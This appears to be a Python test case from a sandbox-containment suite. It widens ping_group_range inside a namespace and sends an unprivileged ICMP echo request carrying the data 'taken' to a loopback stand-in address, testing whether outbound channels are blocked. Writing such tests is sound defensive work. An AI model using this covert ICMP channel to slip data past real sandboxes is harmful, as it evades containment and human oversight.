# class: network
# rule: outbound_connectivity
# success: an echo request that carries data goes out from a socket that needs no privilege
# proof: word
# needs: namespace
import socket

from attack import attempt


@attempt
def send():
    # In a namespace of its own, the group that may is set to everybody's.
    with open("/proc/sys/net/ipv4/ping_group_range", "w") as opened:
        opened.write("0 0")
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    return out.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01taken", ("127.66.66.66", 0)) > 0
